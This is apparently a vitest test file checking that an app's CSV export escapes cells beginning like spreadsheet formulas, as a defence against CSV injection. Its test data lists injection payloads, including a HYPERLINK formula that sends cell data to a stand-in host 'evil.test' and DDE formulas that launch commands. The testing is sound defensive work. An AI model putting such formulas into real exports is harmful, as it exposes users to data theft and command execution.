import { describe, expect, test } from 'vitest'
import { csvStream, type CsvCell } from '~/.server/admin/csv'
import { readCsvStream } from '../support/csv'

/** One export of `rows` through the app's one CSV helper, read back cell by cell. */
async function exported(rows: CsvCell[][]) {
	const stream = await csvStream<CsvCell[]>({
		label: 'test',
		header: ['Columna'],
		batchSize: 1000,
		read: async (after) => (after ? [] : rows),
		record: (row) => row,
	})
	if (!stream) throw new Error('The export failed to start')
	return (await readCsvStream(stream)).slice(1)
}

describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
	test.each([
		['=HYPERLINK("http://evil.test/?"&D3;"Ver")'],
		["=cmd|' /C calc'!A0"],
		['+34 600 000 000'],
		['-boletin@kia.test'],
		["-2+3+cmd|' /C calc'!A0"],
		["@SUM(1+1)*cmd|' /C calc'!A0"],
		['\t=1+1'],
		['\r=1+1'],
		// Full-width forms some spreadsheets (Apple Numbers) normalise to the ASCII ones.
		['＝1+1'],
		['＋1+1'],
		['－1+1'],
		['＠SUM(1)'],
	])('a cell that begins like a formula, %j, is written as text with a leading quote', async (value) => {
		expect(await exported([[value, 'segunda']])).toEqual([[`'${value}`, 'segunda']])
	})

	test.each(['José García', 'cliente@kia.test', '2026-11-24 15:30', '10:00', 'Demostración; con "comillas"', ''])(
		'an ordinary cell, %j, is written as it is',
		async (value) => expect(await exported([[value]])).toEqual([[value]]),
	)

	test('a formula anywhere but at the start of a cell is text already, and is kept as it is', async () => {
		expect(await exported([['Nombre =1+1', 'a@b.es -x']])).toEqual([['Nombre =1+1', 'a@b.es -x']])
	})

	test('numbers the app computes stay numbers, negative ones included; the same digits typed by someone are text', async () => {
		expect(await exported([[-12.5, 0, 199, '-12.5']])).toEqual([['-12.5', '0', '199', "'-12.5"]])
	})

	test('every cell of every batch is neutralised, not only the first', async () => {
		const rows = Array.from({ length: 2500 }, (_, index) => [`=${index}`, `@${index}`])
		const stream = await csvStream<string[]>({
			label: 'test',
			header: ['A', 'B'],
			batchSize: 1000,
			read: async (after) => rows.slice(after ? rows.indexOf(after) + 1 : 0).slice(0, 1000),
			record: (row) => row,
		})
		const records = (await readCsvStream(stream ?? new ReadableStream())).slice(1)
		expect(records).toHaveLength(2500)
		expect(records.every(([first, second]) => first?.startsWith("'=") && second?.startsWith("'@"))).toBe(true)
	})
})
